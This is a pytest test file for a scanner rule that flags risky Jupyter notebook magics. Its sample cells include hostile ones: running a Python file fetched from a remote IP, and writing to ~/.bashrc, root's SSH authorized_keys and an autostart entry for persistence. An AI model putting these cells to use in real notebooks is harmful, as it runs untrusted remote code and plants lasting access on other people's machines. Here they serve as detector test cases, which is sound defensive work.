"""NTB003: magics that run code from elsewhere or write where it runs again."""

from __future__ import annotations

import pytest

from modelkeep.core import Severity
from modelkeep.scan.notebook_magics import DETECTOR
from notebook_samples import code, notebook
from samples import found_by


@pytest.mark.parametrize(
    "cell",
    [
        "%run http://203.0.113.9/x.py",
        "%run /tmp/x.py",
        "%time %run https://203.0.113.9/x.py",
        "get_ipython().run_line_magic('run', 'http://203.0.113.9/x.py')",
        "%%writefile ~/.bashrc\ntrue",
        "%%writefile -a /root/.ssh/authorized_keys\nssh-ed25519 AAAA",
        "%%file ~/.config/autostart/x.desktop\n[Desktop Entry]",
    ],
)
def test_code_from_elsewhere_and_lasting_changes_fail(cell: str) -> None:
    (finding,) = found_by(DETECTOR, notebook(code(cell)))
    assert finding.severity is Severity.HIGH


def test_code_that_is_only_shown_is_a_warning() -> None:
    (finding,) = found_by(DETECTOR, notebook(code("%load https://example.com/x.py")))
    assert finding.severity is Severity.MEDIUM


@pytest.mark.parametrize(
    "cell",
    [
        "%run train.py --url x",
        "%%writefile train.py\nimport torch",
        "%matplotlib inline",
        "x = 1",
    ],
)
def test_ordinary_magics_are_silent(cell: str) -> None:
    assert found_by(DETECTOR, notebook(code(cell))) == []
